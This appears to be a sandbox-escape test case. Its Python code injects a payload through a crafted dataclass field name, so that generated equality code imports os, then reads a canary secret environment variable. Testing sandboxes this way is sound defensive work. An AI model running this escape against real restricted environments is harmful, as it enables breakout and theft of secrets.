# technique: dataclass codegen injection through a base class carrying a hand-made __dataclass_fields__ (the field-name check only looks at the class's own annotations)
# expect: any
import dataclasses
@dataclasses.dataclass
class Real:
    a: int = 0
sentinel = dataclasses.fields(Real)[0]._field_type
payload = '__class__,__import__("os"))#'
evil = dataclasses.field(default=0)
evil.name = payload
evil.type = int
evil._field_type = sentinel
class Params:
    frozen = False
Base = type("Base", (), {"__dataclass_fields__": {payload: evil}, "__dataclass_params__": Params()})
C = type("C", (Base,), {"__module__": "json", "__doc__": "d"})
C = dataclasses.dataclass(C, init=False, repr=False)
os_mod = (C() == C())[1]
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
